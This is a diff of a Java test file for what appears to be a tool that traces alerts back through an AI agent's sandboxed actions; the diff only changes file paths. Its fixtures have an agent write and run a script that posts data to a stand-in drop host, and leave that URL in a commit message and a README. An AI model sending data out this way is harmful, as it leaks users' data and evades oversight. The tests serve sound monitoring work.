@@ -76,14 +76,14 @@ class BackwardTest {
   void followsAScriptThatTheAgentWroteToItsRun() {
     Scene scene = new Scene();
     worker(scene, "s1", 0, "sbx-1", "10.0.3.17")
-        .writes(5, "/work/tools/sync_up.py", "requests.post('https://drop.example.net/u')")
+        .writes(5, "/srv/tools/sync_up.py", "requests.post('https://drop.example.net/u')")
         .runs(10, "toolu_a1", "python3 tools/sync_up.py")
         .gets(14, "toolu_a1", "", 0);
     Chain chain = alerted(scene, 11, "10.0.3.17").chain();
     assertThat(chain.steps())
         .filteredOn(s -> s.stage() == Stage.SETUP)
         .extracting(Step::summary)
-        .containsExactly("writes /work/tools/sync_up.py");
+        .containsExactly("writes /srv/tools/sync_up.py");
     assertThat(chain.notes())
         .anyMatch(n -> n.endsWith("the command runs sync_up.py, which names its far side"));
   }
@@ -155,7 +155,7 @@ class BackwardTest {
         .gets(11, "toolu_a1", "", 0)
         .runs(12, "toolu_a2", "git commit -m https://drop.example.net/u/")
         .gets(13, "toolu_a2", "", 0)
-        .writes(14, "/work/README.md", "See https://drop.example.net/u/");
+        .writes(14, "/srv/README.md", "See https://drop.example.net/u/");
     assertThat(alerted(scene, 12, "10.0.3.17").chain().actor()).isEqualTo(ChainActor.UNKNOWN);
   }
 
